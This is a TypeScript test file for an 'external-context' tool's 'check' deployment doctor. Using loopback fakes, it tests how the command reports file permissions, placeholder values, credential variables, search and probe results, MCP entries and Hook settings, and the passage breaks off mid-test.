// `check` as the deployment doctor (config.md §11): every checklist item, ok / warn / fail, with
// the message and hint an administrator acts on, against real files and strict loopback fakes;
// in-process through the dispatch table, plus the executable for --json and the
// exit code. check.test.ts covers the binding lines and --search text that precede the checklist.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { execFileSync } from 'node:child_process';
import { chmodSync, lchownSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import path from 'node:path';
import { run as runDispatch } from '../../src/cli/dispatch.ts';
import { launchers as launcherRows } from '../support/launchers.ts';
import { startFakeServer, type FakeServer } from '../fakes/fake-server.ts';
import { startGenericHttpFake, type GenericHttpFake } from '../fakes/generic-http.ts';
import { startMem0ServerFake, type Mem0ServerFake } from '../fakes/mem0-server.ts';
import { CANARY, findCanaries } from '../support/canaries.ts';
import { type CheckItem, runCheckJson } from '../support/check-json.ts';
import { cleanEnv } from '../support/env.ts';
import { runInMemory } from '../support/memory-io.ts';
import { exePath, REPO_ROOT, requireBuilt } from '../support/paths.ts';
import { runProcess } from '../support/run-process.ts';
import { makeTempDir, type TempDir } from '../support/temp-dir.ts';
import { LIVENESS_MS } from '../support/liveness.ts';

// Hang guard for the spawned runs (not a timing assertion).
setDefaultTimeout(LIVENESS_MS);

const VAR = 'DOCTOR_TOKEN';
const TOKEN = 'doctor-token-3c9e';

let tmp: TempDir;
let generic: GenericHttpFake;
let empty: GenericHttpFake;
let refusing: FakeServer;
let mem0: Mem0ServerFake;
let executable: string;
let counter = 0;

beforeAll(async () => {
  tmp = await makeTempDir('ec-doctor-');
  generic = await startGenericHttpFake({ token: TOKEN, items: [{ id: 'kb-7', content: 'Deploy with care.', title: 'Deploy\nguide' }] });
  empty = await startGenericHttpFake({ token: TOKEN, items: [] });
  refusing = await startFakeServer({ handler: () => ({ status: 401, json: { detail: CANARY.body } }) });
  mem0 = await startMem0ServerFake({ routes: 'stock', apiKey: TOKEN, memories: [{ id: 'm1', memory: 'Use pnpm.', user_id: 'u1' }] });
  executable = path.join(tmp.path, 'bin', 'external-context');
  mkdirSync(path.dirname(executable));
  writeFileSync(executable, '#!/bin/sh\n');
  chmodSync(executable, 0o755);
});

afterAll(async () => {
  await Promise.all([generic.close(), empty.close(), refusing.close(), mem0.close()]);
  await tmp.remove();
});

/** Writes a file under the temp directory with mode 0644 (umask-independent) and returns its path. */
function file(content: unknown, mode = 0o644, name = `file-${++counter}.json`): string {
  const target = path.join(tmp.path, name);
  writeFileSync(target, typeof content === 'string' ? content : JSON.stringify(content));
  chmodSync(target, mode);
  return target;
}

const genericConfig = (baseUrl: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  version: 1,
  provider: { type: 'generic-http-search-v1', baseUrl, tokenEnv: VAR },
  ...extra,
});

/** Runs `check --json` in-process and returns the exit code and the checklist. */
async function doctor(args: readonly string[], env: Record<string, string | undefined> = { [VAR]: TOKEN }): Promise<{ code: number; items: CheckItem[]; stderr: string }> {
  const result = await runCheckJson(args, env);
  expect(result.ok).toBe(result.code === 0);
  expect(findCanaries(result.stdout + result.stderr)).toEqual([]);
  expect(result.stdout).not.toContain(TOKEN);
  return { code: result.code, items: result.items, stderr: result.stderr };
}

const byId = (items: readonly CheckItem[], id: string): CheckItem | undefined => items.find((entry) => entry.id === id);

describe('check: configuration file, placeholders, credential', () => {
  test('a clean configuration: config-file, placeholders, configuration and credential are ok, exit 0', async () => {
    const config = file(genericConfig(generic.origin));
    const { code, items } = await doctor(['--config', config]);
    expect(code).toBe(0);
    expect(items.map((entry) => [entry.id, entry.status])).toEqual([
      ['config-file', 'ok'],
      ['placeholders', 'ok'],
      ['configuration', 'ok'],
      ['credential', 'ok'],
    ]);
    expect(byId(items, 'config-file')?.message).toMatch(new RegExp(`^${config.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: regular file, \\d+ bytes, owner uid \\d+, mode 0644\\.$`, 'u'));
    expect(byId(items, 'configuration')?.message).toBe('Valid: version 1, provider generic-http-search-v1, writes disabled.');
    expect(byId(items, 'credential')).toEqual({ id: 'credential', status: 'ok', message: `provider.tokenEnv names ${VAR}, which is set and can be sent as an HTTP header.` });
  });

  test.skipIf(process.platform === 'win32')('a group- or other-writable configuration fails with the chmod to run, as serve refuses it', async () => {
    for (const [mode, who] of [
      [0o664, 'the group'],
      [0o646, 'other users'],
    ] as const) {
      const config = file(genericConfig(generic.origin), mode);
      const { code, items } = await doctor(['--config', config]);
      expect(code).toBe(1);
      expect(byId(items, 'config-file')).toMatchObject({
        status: 'fail',
        hint: `Anyone who can write the file can rebind the corpus, so serve and the Hooks refuse it: chmod go-w '${config}'.`,
      });
      expect(byId(items, 'config-file')?.message).toEndWith(`; writable by ${who}.`);
    }
  });

  test.skipIf(process.platform === 'win32')(
    'one rule for the configuration (issue 25 §4.3): a 0644 file in a 0777 folder fails check, serve and serve --http refuse it, the auto-recall Hook logs untrusted-configuration',
    async () => {
      const open = path.join(tmp.path, 'open-folder');
      mkdirSync(open, { recursive: true });
      chmodSync(open, 0o777);
      const config = path.join(open, 'config.json');
      writeFileSync(config, JSON.stringify(genericConfig(generic.origin)), { mode: 0o644 });
      const { code, items } = await doctor(['--config', config]);
      expect(code).toBe(1);
      expect(byId(items, 'config-file')).toMatchObject({
        status: 'fail',
        message: expect.stringMatching(/; a folder above it or a link on its path is not owned by root or this user, or is writable by the group or others\.$/u),
      });
      const message =
        '[external-context] External context configuration can be changed by other users: the file, a folder above it or a link on its path is not owned by root or this user, or is writable by the group or others. Run external-context check for the fix.\n';
      // stdio as the executable; --http, which refuses before it listens, through run() in this process.
      for (const [index, args] of [
        ['serve', '--config', config],
        ['serve', '--http', '--insecure-no-auth', '--listen', '127.0.0.1:0', '--config', config],
      ].entries()) {
        const env = cleanEnv({ [VAR]: TOKEN });
        const result = index === 0 ? await runProcess(requireBuilt(exePath()), args, { env, stdin: '' }) : await runInMemory(runDispatch, args, { env });
        expect({ args, code: result.code, stderr: result.stderr }).toEqual({ args, code: 1, stderr: message });
      }
      // A sticky world-writable folder such as /tmp is allowed: nobody else can replace the file.
      chmodSync(open, 0o1777);
      expect(byId((await doctor(['--config', config])).items, 'config-file')?.status).toBe('ok');
    },
  );

  test('a missing file, a directory and an oversized file fail with the path and the cause', async () => {
    const missing = path.join(tmp.path, 'missing.json');
    const big = file(`{"pad":"${'a'.repeat(70_000)}"}`);
    const cases: readonly (readonly [string, string])[] = [
      [missing, `${missing}: not found.`],
      [tmp.path, `${tmp.path}: is a directory.`],
      [big, `${big}: larger than 64 KiB (70010 bytes).`],
    ];
    for (const [target, message] of cases) {
      const { code, items, stderr } = await doctor(['--config', target]);
      expect(code).toBe(1);
      expect(byId(items, 'config-file')).toMatchObject({ status: 'fail', message });
      expect(byId(items, 'configuration')?.status).toBe('fail');
      expect(stderr).toStartWith('[external-context] ');
    }
  });

  test('no configuration at all fails config-path with the hint to pass --config', async () => {
    const { code, items } = await doctor([], {});
    expect(code).toBe(1);
    expect(items).toHaveLength(1);
    expect(items[0]).toMatchObject({ id: 'config-path', status: 'fail', hint: 'Pass --config <absolute path> or set QWEN_EXTERNAL_CONTEXT_CONFIG to the configuration file.' });
  });

  test('placeholder values left from the examples fail, naming the fields', async () => {
    const cases: readonly (readonly [Record<string, unknown>, string])[] = [
      [genericConfig('https://kb.example.com'), 'provider.baseUrl (an example host)'],
      [genericConfig('https://search.example'), 'provider.baseUrl (an example host)'],
      [genericConfig('https://example.com'), 'provider.baseUrl (an example host)'],
      [{ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: 'YOUR_TOKEN_VARIABLE' } }, 'provider.tokenEnv (YOUR_…)'],
      [
        { version: 1, provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: VAR, scope: { userId: '<your user id>' } } },
        'provider.scope.userId (<…>)',
      ],
      [
        { version: 1, provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: VAR, scope: { userId: 'replace-me' } } },
        'provider.scope.userId (replace-me)',
      ],
      [{ version: 2, provider: genericConfig(generic.origin)['provider'], autoRecall: { repositoryRoot: '/absolute/path/to/repository' } }, 'autoRecall.repositoryRoot (/absolute/path/to/…)'],
      [{ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: `${generic.origin}/YOUR_PATH`, tokenEnv: VAR } }, 'provider.baseUrl (YOUR_…)'],
    ];
    for (const [config, field] of cases) {
      const { code, items } = await doctor(['--config', file(config)], { [VAR]: TOKEN });
      expect(code).toBe(1);
      expect(byId(items, 'placeholders')).toEqual({
        id: 'placeholders',
        status: 'fail',
        message: `Placeholder values left from the examples: ${field}.`,
        hint: 'Replace each of these fields with the value of your deployment.',
      });
    }
    // A set variable whose name contains YOUR_ is the administrator's real variable, not a placeholder.
    const named = file({ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: 'YOUR_ORG_TOKEN' } });
    expect(byId((await doctor(['--config', named], { YOUR_ORG_TOKEN: TOKEN })).items, 'placeholders')?.status).toBe('ok');
    expect(byId((await doctor(['--config', named], {})).items, 'placeholders')?.message).toBe('Placeholder values left from the examples: provider.tokenEnv (YOUR_…).');
    // Documentation hosts elsewhere (a .test host, an item-like string) are not placeholders.
    expect(byId((await doctor(['--config', file(genericConfig('https://kb.test'))])).items, 'placeholders')?.status).toBe('ok');
  });

  test('while the placeholders item fails, --search and --probe send no request: no CONNECT reaches the proxy, the loopback fake sees nothing', async () => {
    // A proxy that counts connections: an example host goes through it, so any request shows.
    const connections: number[] = [];
    const proxy = createServer((socket) => {
      connections.push(1);
      socket.destroy();
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    try {
      generic.reset();
      const placeholderHost = file(genericConfig('https://context.example.com'));
      const loopbackPlaceholder = file({ ...genericConfig(generic.origin), provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: 'YOUR_TOKEN_VARIABLE' } });
      for (const config of [placeholderHost, loopbackPlaceholder]) {
        const { code, items } = await doctor(['--config', config, '--search', 'q', '--probe'], { [VAR]: TOKEN, YOUR_TOKEN_VARIABLE: undefined, HTTPS_PROXY: proxyUrl });
        expect(code).toBe(1);
        expect(byId(items, 'search')).toEqual({
          id: 'search',
          status: 'fail',
          message: 'Not run: the configuration still holds placeholder values, so a search would go to an example host with the credential.',
          hint: 'Replace the placeholder values named above, then run check --search again.',
        });
        expect(byId(items, 'probe')?.message).toStartWith('Not run: the configuration still holds placeholder values');
      }
      expect(connections).toEqual([]);
      expect(generic.requests).toEqual([]);
    } finally {
      proxy.close();
    }
  });

  test('serve and serve --http refuse a configuration with placeholder values at start (exit 1), before any request', async () => {
    generic.reset();
    const config = file(genericConfig(generic.origin));
    const placeholder = file(genericConfig('https://context.example.com'));
    const message =
      '[external-context] External context configuration holds placeholder values from the examples: provider.baseUrl (an example host). Replace them with the values of your deployment.\n';
    // stdio as the executable; --http, which refuses before it listens, through run() in this process.
    for (const [index, args] of [
      ['serve', '--config', placeholder],
      ['serve', '--http', '--insecure-no-auth', '--listen', '127.0.0.1:0', '--config', placeholder],
    ].entries()) {
      const env = cleanEnv({ [VAR]: TOKEN });
      const result = index === 0 ? await runProcess(requireBuilt(exePath()), args, { env, stdin: '' }) : await runInMemory(runDispatch, args, { env });
      expect({ args, code: result.code, stdout: result.stdout, stderr: result.stderr }).toEqual({ args, code: 1, stdout: '', stderr: message });
    }
    // The same server on a real configuration starts (stdin closed: exit 0).
    const clean = await runProcess(requireBuilt(exePath()), ['serve', '--config', config], { env: cleanEnv({ [VAR]: TOKEN }), stdin: '' });
    expect({ code: clean.code, stderr: clean.stderr }).toEqual({ code: 0, stderr: '' });
    expect(generic.requests).toEqual([]);
  });

  test('the credential item names the variable and what is wrong with its value, never the value', async () => {
    const config = file(genericConfig(generic.origin));
    const cases: readonly (readonly [string | undefined, CheckItem['status'], string])[] = [
      [undefined, 'fail', `provider.tokenEnv names ${VAR}, which is not set.`],
      ['', 'fail', `provider.tokenEnv names ${VAR}, which is empty.`],
      ['   ', 'fail', `provider.tokenEnv names ${VAR}, which is empty.`],
      ['${CONTEXT_TOKEN}', 'fail', `provider.tokenEnv names ${VAR}, which holds the literal placeholder \${CONTEXT_TOKEN} (left by Qwen Code because CONTEXT_TOKEN was not set).`],
      [`${TOKEN}\n`, 'fail', `provider.tokenEnv names ${VAR}, which contains a control character (such as a newline) that cannot go in an HTTP header.`],
      [`${TOKEN}\u2019`, 'fail', `provider.tokenEnv names ${VAR}, which contains a character that cannot go in an HTTP header (above U+00FF).`],
      [` ${TOKEN}`, 'warn', `provider.tokenEnv names ${VAR}, which is set but has leading or trailing spaces.`],
    ];
    for (const [value, status, message] of cases) {
      const { code, items } = await doctor(['--config', config], { [VAR]: value });
      expect(byId(items, 'credential')).toMatchObject({ status, message });
      expect(code).toBe(status === 'fail' ? 1 : 0);
    }
  });
});

describe('check --search and --probe items', () => {
  test('--search reports the item count and the first item id and title (control characters escaped)', async () => {
    const { code, items } = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy']);
    expect(code).toBe(0);
    expect(byId(items, 'search')?.message).toMatch(/^1 item in \d+ ms; first: id "kb-7", title "Deploy\\u000aguide"\.$/u);
    // Bidi and zero-width characters from the provider are escaped too (break report F6).
    generic.setItems([{ id: 'kb\u202e8', content: 'x', title: 'exe.\u2066txt\u200b' }]);
    try {
      const bidi = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy']);
      expect(byId(bidi.items, 'search')?.message).toMatch(/^1 item in \d+ ms; first: id "kb\\u202e8", title "exe\.\\u2066txt\\u200b"\.$/u);
    } finally {
      generic.setItems([{ id: 'kb-7', content: 'Deploy with care.', title: 'Deploy\nguide' }]);
    }
  });

  test('--search with redactSecrets reports how many secrets the search redacted, never what (config.md §4.3)', async () => {
    const key = 'AKIAQWERTYUIOPASDFGH';
    const token = `ghp_${'Zx9'.repeat(12)}`;
    generic.setItems([{ id: 'kb-9', content: `key ${key} and ${token}`, title: `Token ${token}` }]);
    try {
      const on = await doctor(['--config', file(genericConfig(generic.origin, { redactSecrets: true })), '--search', 'deploy']);
      expect(byId(on.items, 'search')?.message).toMatch(/^1 item in \d+ ms; first: id "kb-9", title "Token \[redacted:github-token\]"\. 3 secrets redacted\.$/u);
      expect(JSON.stringify(on)).not.toContain(key);
      expect(JSON.stringify(on)).not.toContain(token);
      const off = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy']);
      expect(byId(off.items, 'search')?.message).not.toContain('redacted');
    } finally {
      generic.setItems([{ id: 'kb-7', content: 'Deploy with care.', title: 'Deploy\nguide' }]);
    }
  });

  test('--search with no match is ok with a hint; a refused key fails with the class and the credential hint', async () => {
    const none = await doctor(['--config', file(genericConfig(empty.origin)), '--search', 'deploy']);
    expect(none.code).toBe(0);
    expect(byId(none.items, 'search')).toMatchObject({ status: 'ok', message: expect.stringMatching(/^0 items in \d+ ms\.$/u) });
    const refused = await doctor(['--config', file(genericConfig(refusing.origin)), '--search', CANARY.query]);
    expect(refused.code).toBe(1);
    expect(byId(refused.items, 'search')).toEqual({
      id: 'search',
      status: 'fail',
      message: expect.stringMatching(/^Failed after \d+ ms: http-status 401\.$/u),
      hint: 'The provider refused the credential (HTTP 401): check that the variable named by tokenEnv (Generic HTTP), credentialEnv (Mem0) or apiKeyEnv holds a valid key with access to this corpus.',
    });
  });

  test('check --json: a failed search carries its class (and status) as fields, for scripts', async () => {
    const run = async (origin: string): Promise<Record<string, unknown>> => {
      const result = await runInMemory(runDispatch, ['check', '--config', file(genericConfig(origin)), '--search', 'q', '--json'], { env: { [VAR]: TOKEN }, cwd: REPO_ROOT });
      return (JSON.parse(result.stdout) as { search: Record<string, unknown> }).search;
    };
    expect(await run(refusing.origin)).toEqual({ ok: false, latencyMs: expect.any(Number), envelope: null, class: 'http-status', status: 401 });
    const closed = await run('http://127.0.0.1:1');
    expect(closed).toEqual({ ok: false, latencyMs: expect.any(Number), envelope: null, class: 'connection-refused' });
    expect(await run(empty.origin)).toEqual({ ok: true, latencyMs: expect.any(Number), envelope: expect.any(Object) });
  });

  test("the configuration item's hint: an unset credential points at the environment, not the file; other errors at docs/reference/", async () => {
    const unset = await doctor(['--config', file(genericConfig(generic.origin))], {});
    expect(byId(unset.items, 'configuration')?.hint).toBe(
      'Set the variable that provider.tokenEnv names in the environment that runs external-context; the file is right (the credential item says what is wrong with the variable).',
    );
    const wrong = file(genericConfig(generic.origin, { timeoutMs: 0 }));
    expect(byId((await doctor(['--config', wrong])).items, 'configuration')?.hint).toBe(`Change timeoutMs in ${wrong} (docs/reference/configuration.md).`);
  });

  test('--search is not run when the configuration did not load', async () => {
    const { code, items } = await doctor(['--config', file(genericConfig(generic.origin)), '--search', 'deploy'], {});
    expect(code).toBe(1);
    expect(byId(items, 'search')).toMatchObject({ status: 'fail', message: 'Not run: the configuration did not load.' });
    expect(generic.requests.every((request) => request.json === undefined || (request.json as { query?: string }).query !== 'never')).toBe(true);
  });

  test('--probe reports the preset probe verdict for a Mem0 configuration and warns for another provider', async () => {
    const config = file({
      version: 1,
      provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: VAR, scope: { userId: 'u1' } },
    });
    const { code, items } = await doctor(['--config', config, '--probe']);
    expect(code).toBe(0);
    expect(byId(items, 'probe')).toEqual({
      id: 'probe',
      status: 'ok',
      message: 'already-dual-placement: ALREADY DUAL: this preset already sends scope at the request root and under "filters".',
    });
    const wrongKey = await doctor(['--config', config, '--probe'], { [VAR]: 'wrong-key' });
    expect(wrongKey.code).toBe(1);
    expect(byId(wrongKey.items, 'probe')).toEqual({
      id: 'probe',
      status: 'fail',
      message: 'unauthorized (http-status 401): UNAUTHORIZED: this endpoint refused the credential; the preset was not tested.',
      hint: expect.stringMatching(/^The provider refused the credential \(HTTP 401\)/u),
    });
    const closed = await startFakeServer();
    const closedOrigin = closed.origin;
    await closed.close();
    const unreachable = file({
      version: 1,
      provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: closedOrigin }, credentialEnv: VAR, scope: { userId: 'u1' } },
    });
    expect(byId((await doctor(['--config', unreachable, '--probe'])).items, 'probe')).toMatchObject({
      status: 'fail',
      message: 'unreachable (connection-refused): UNREACHABLE: the probe could not reach this endpoint; the preset was not tested.',
    });
    const other = await doctor(['--config', file(genericConfig(generic.origin)), '--probe']);
    expect(other.code).toBe(0);
    expect(byId(other.items, 'probe')).toMatchObject({ status: 'warn', message: 'Not run: the probe checks Mem0 presets, and this configuration uses generic-http-search-v1.' });
  });
});

describe('check --mcp-config, --settings, --launch-profile', () => {
  const writeConfig = (): Record<string, unknown> => ({
    version: 1,
    provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: VAR, scope: { userId: 'u1' } },
    write: { enabled: true },
  });

  // In-process runs see the test runtime as "the running executable" (memoryIo has no script
  // path), so the shipped shapes name process.execPath and a different executable is a warning.
  test('the shipped shapes pass every item', async () => {
    const config = file(writeConfig());
    const mcp = file({
      mcpServers: {
        'external-context': {
          command: process.execPath,
          args: ['serve', '--config', config],
          timeout: 8000,
          alwaysLoadTools: true,
          includeTools: ['context_search', 'context_remember'],
        },
      },
    });
    const hook = (await runInMemory(runDispatch, ['hook', 'settings', 'write'], { env: {}, cwd: REPO_ROOT })).stdout;
    const settings = file({
      permissions: { allow: ['mcp__external-context__context_search'], ask: ['mcp__external-context__context_remember'] },
      slashCommands: { disabled: ['memory', 'cd'] },
      disableAllHooks: false,
      ...(JSON.parse(hook) as Record<string, unknown>),
    });
    const { code, items } = await doctor(['--config', config, '--mcp-config', mcp, '--settings', settings]);
    expect(items.filter((entry) => entry.status !== 'ok')).toEqual([]);
    expect(code).toBe(0);
    expect(items.map((entry) => entry.id)).toEqual([
      'config-file',
      'placeholders',
      'configuration',
      'credential',
      'mcp-config',
      'mcp-config.executable',
      'mcp-config.args',
      'mcp-config.config-path',
      'mcp-config.include-tools',
      'mcp-config.always-load-tools',
      'mcp-config.file',
      'settings',
      'settings.permissions',
      'settings.write-hook',
      'settings.other-hooks',
      'settings.tool-rules',
      'settings.cd',
      'settings.file',
    ]);
  });

  test('each MCP configuration finding says what to change', async () => {
    const config = file(writeConfig());
    const other = file(writeConfig());
    const mcp = file({
      mcpServers: { 'external-context': { command: path.join(tmp.path, 'nope'), args: ['serve', '--config', other], includeTools: ['context_search'] } },
    });
    const { code, items } = await doctor(['--config', config, '--mcp-config', mcp]);
    expect(code).toBe(1);
    expect(byId(items, 'mcp-config.executable')).toMatchObject({ status: 'fail', message: 'mcpServers.external-context.command must name an existing regular file.' });
    expect(byId(items, 'mcp-config.config-path')).toMatchObject({ status: 'fail', message: `--config names ${other}, not the configuration checked here (${config}).` });
    expect(byId(items, 'mcp-config.include-tools')).toMatchObject({
      status: 'fail',
      hint: 'Set includeTools to ["context_search","context_remember"].',
    });
    expect(byId(items, 'mcp-config.always-load-tools')).toMatchObject({ status: 'fail', hint: 'Set "alwaysLoadTools": true in the server entry.' });
    const unpinned = file({ mcpServers: { ec: { command: executable, args: ['serve'], includeTools: ['context_search', 'context_remember'], alwaysLoadTools: true } } });
    const unpinnedItems = (await doctor(['--config', config, '--mcp-config', unpinned])).items;
    expect(byId(unpinnedItems, 'mcp-config.config-path')?.status).toBe('warn');
    expect(byId(unpinnedItems, 'mcp-config.executable')?.status).toBe('warn');
    // The settings are then checked against the server key the MCP configuration uses.
    const settings = file({ permissions: { allow: ['mcp__ec__context_search'], ask: ['mcp__ec__context_remember'] } });
    expect(byId((await doctor(['--config', config, '--mcp-config', unpinned, '--settings', settings])).items, 'settings.permissions')?.status).toBe('ok');
    const none = await doctor(['--config', config, '--mcp-config', file({ mcpServers: {} })]);
    expect(byId(none.items, 'mcp-config')).toMatchObject({ status: 'fail', message: expect.stringContaining('no mcpServers entry runs "external-context serve"') });
    const missing = await doctor(['--config', config, '--mcp-config', path.join(tmp.path, 'absent.json')]);
    expect(byId(missing.items, 'mcp-config')?.message).toBe(`${path.join(tmp.path, 'absent.json')}: not found.`);
  });

  test.skipIf(process.platform === 'win32')('a 0666 MCP file and settings file in a 0777 folder fail mcp-config.file and settings.file (issue 25 §6.4)', async () => {
    const config = file(writeConfig());
    const open = path.join(tmp.path, 'managed-open');
    mkdirSync(open, { recursive: true });
    chmodSync(open, 0o777);
    const mcp = path.join(open, 'mcp.json');
    writeFileSync(
      mcp,
      JSON.stringify({ mcpServers: { 'external-context': { command: executable, args: ['serve', '--config', config], includeTools: ['context_search', 'context_remember'], alwaysLoadTools: true } } }),
    );
    chmodSync(mcp, 0o666);
    const settings = path.join(open, 'settings.json');
    writeFileSync(settings, JSON.stringify({ permissions: { allow: ['mcp__external-context__context_search'] } }));
    chmodSync(settings, 0o666);
    const { code, items } = await doctor(['--config', config, '--mcp-config', mcp, '--settings', settings]);
    expect(code).toBe(1);
    for (const [id, target] of [
      ['mcp-config.file', mcp],
      ['settings.file', settings],
    ] as const) {
      expect(byId(items, id)).toEqual({
        id,
        status: 'fail',
        message: `${target} can be changed by other users: the file, a folder above it or a link on its path is not owned by root or this user, or is writable by the group or others.`,
        hint: `Anyone who can replace it can change what the agent runs: chown root and chmod go-w '${target}' and each folder above it.`,
      });
    }
  });

  test('an entry that is not exactly the stdio server of this configuration fails mcp-config.args, naming what it runs', async () => {
    const config = file(writeConfig());
    const other = file(writeConfig());
    const entry = (args: string[], extra: Record<string, unknown> = {}): string =>
      file({ mcpServers: { 'external-context': { command: executable, args, includeTools: ['context_search', 'context_remember'], alwaysLoadTools: true, ...extra } } });
    const prefix = 'mcpServers.external-context is not exactly the stdio server of this configuration: ';
    const cases: readonly (readonly [string, string])[] = [
      [entry(['serve', '--config', config, '--config', other]), '--config is given more than once (serve refuses it).'],
      [entry(['serve', `--config=${config}`, `--config=${other}`]), '--config is given more than once (serve refuses it).'],
      [entry(['hook', 'auto-recall', '--config', config, 'serve']), 'it runs "hook", not "serve".'],
      [entry(['check', '--config', config, 'serve']), 'it runs "check", not "serve".'],
      [entry(['serve', '--http', '--insecure-no-auth', '--config', config]), 'it runs serve --http, the remote server, not the stdio server.'],
      [entry(['serve', '--config', config, 'canary-stray-value']), 'it passes an argument, which the stdio server of one configuration does not take.'],
      [entry(['serve', '--config', config], { excludeTools: ['context_search'] }), 'excludeTools hides "context_search".'],
    ];
    for (const [mcp, problem] of cases) {
      const { code, items } = await doctor(['--config', config, '--mcp-config', mcp]);
      expect({ mcp, item: byId(items, 'mcp-config.args') }).toEqual({
        mcp,
        item: {
          id: 'mcp-config.args',
          status: 'fail',
          message: `${prefix}${problem}`,
          hint: 'Set args to ["serve", "--config", "<absolute path>"] and remove excludeTools, as in contracts/examples/managed-search-mcp.json.',
        },
      });
      expect(code).toBe(1);
    }
    for (const args of [['serve', '--config', config], ['serve', `--config=${config}`], ['--config', config], ['serve'], []]) {
      expect(byId((await doctor(['--config', config, '--mcp-config', entry(args)])).items, 'mcp-config.args')?.status).toBe('ok');
    }
  });

  test.skipIf(process.platform === 'win32')('an executable others can write fails', async () => {
    const loose = path.join(tmp.path, 'bin', 'loose');
    writeFileSync(loose, '');
    chmodSync(loose, 0o757);
    const mcp = file({ mcpServers: { 'external-context': { command: loose, args: ['serve'], includeTools: ['context_search'], alwaysLoadTools: true } } });
    const { items } = await doctor(['--config', file(genericConfig(generic.origin)), '--mcp-config', mcp]);
    expect(byId(items, 'mcp-config.executable')).toMatchObject({ status: 'fail', message: 'mcpServers.external-context.command must not be writable by other users.' });
  });

  test('each settings finding says what to change', async () => {
    const config = file(writeConfig());
    const settings = file({
      permissions: { allow: ['mcp__external-context__context_remember', 'mcp__externalcontext__context_search'] },
      disableAllHooks: true,
      hooks: { PreToolUse: [{ matcher: 'context_remember', hooks: [{ type: 'command', command: `exec '${executable}' hook write-confirmation`, timeout: 8 }] }] },
    });
    const { code, items } = await doctor(['--config', config, '--settings', settings]);
    expect(code).toBe(1);
    expect(byId(items, 'settings.permissions')).toEqual({
      id: 'settings.permissions',
      status: 'fail',
      message:
        'permissions.allow does not name mcp__external-context__context_search; permissions.ask does not name mcp__external-context__context_remember; permissions.allow names mcp__external-context__context_remember, so writes run without confirmation; mcp__externalcontext__context_search names no tool of server "external-context".',
      hint: 'Add "mcp__external-context__context_search" to permissions.allow; add "mcp__external-context__context_remember" to permissions.ask; move "mcp__external-context__context_remember" to permissions.ask; name the tools as mcp__<server key>__<tool>.',
    });
    expect(byId(items, 'settings.write-hook')).toMatchObject({ status: 'fail', message: 'The PreToolUse Hook matcher is "context_remember", not "mcp__external-context__context_remember".' });
    expect(byId(items, 'settings.hooks-enabled')).toMatchObject({ status: 'fail', hint: 'Set "disableAllHooks": false in the system settings.' });
    expect(byId(items, 'settings.cd')).toMatchObject({ status: 'warn', hint: 'Add "cd" to slashCommands.disabled.' });
  });

  test('a version 2 configuration needs the auto-recall Hook with timeout 8000', async () => {
    const repo = path.join(tmp.path, 'repo');
    mkdirSync(repo, { recursive: true });
    const config = file({ ...genericConfig(generic.origin), version: 2, autoRecall: { repositoryRoot: repo } });
    const hook = (await runInMemory(runDispatch, ['hook', 'settings', 'auto-recall', '--config', config], { env: {}, cwd: REPO_ROOT })).stdout;
    const good = await doctor(['--config', config, '--settings', file({ slashCommands: { disabled: ['cd'] }, ...(JSON.parse(hook) as object) })]);
    expect(byId(good.items, 'settings.auto-recall-hook')).toEqual({
      id: 'settings.auto-recall-hook',
      status: 'ok',
      message: `The UserPromptSubmit Hook runs ${process.execPath} hook auto-recall with timeout 8000.`,
    });
    expect(good.code).toBe(0);
    // A Hook that starts another executable than the one running check is a warning.
    const other = (await runInMemory(runDispatch, ['hook', 'settings', 'auto-recall', '--executable', executable], { env: {}, cwd: REPO_ROOT })).stdout;
    const elsewhere = await doctor(['--config', config, '--settings', file(JSON.parse(other) as object)]);
    expect(byId(elsewhere.items, 'settings.auto-recall-hook')).toEqual({
      id: 'settings.auto-recall-hook',
      status: 'warn',
      message: `The UserPromptSubmit Hook runs ${executable}, not the executable running this check (${process.execPath}).`,
      hint: 'Point it at the installed executable, or run check with the executable it names.',
    });
    const missing = await doctor(['--config', config, '--settings', file({})]);
    expect(byId(missing.items, 'settings.auto-recall-hook')).toMatchObject({ status: 'fail', hint: 'Merge the output of external-context hook settings auto-recall into the system settings.' });
  });

  // F4 of the break report: these Hook commands used to pass because they merely contained
  // " hook <sub>" after exec '<exe>'.
  test('a Hook command that is not exactly what hook settings prints for this deployment fails', async () => {
    const config = file(writeConfig());
    const settingsWith = (event: string, matcher: string, command: string): string =>
      file({
        permissions: { allow: ['mcp__external-context__context_search'], ask: ['mcp__external-context__context_remember'] },
        slashCommands: { disabled: ['cd'] },
        hooks: { [event]: [{ matcher, hooks: [{ type: 'command', command, timeout: 8000 }] }] },
      });
    const write = (command: string) => settingsWith('PreToolUse', 'mcp__external-context__context_remember', command);
    const exe = `exec '${process.execPath}'`;
    const otherServer = await doctor(['--config', config, '--settings', write(`${exe} hook write-confirmation --server-name 'not-this-server'`)]);
    expect(byId(otherServer.items, 'settings.write-hook')).toEqual({
      id: 'settings.write-hook',
      status: 'fail',
      message: 'The PreToolUse Hook command names the server "not-this-server", not "external-context", so it lets the real tool through unconfirmed.',
      hint: 'Use the command external-context hook settings write prints for this deployment.',
    });
    expect(otherServer.code).toBe(1);
    for (const command of [
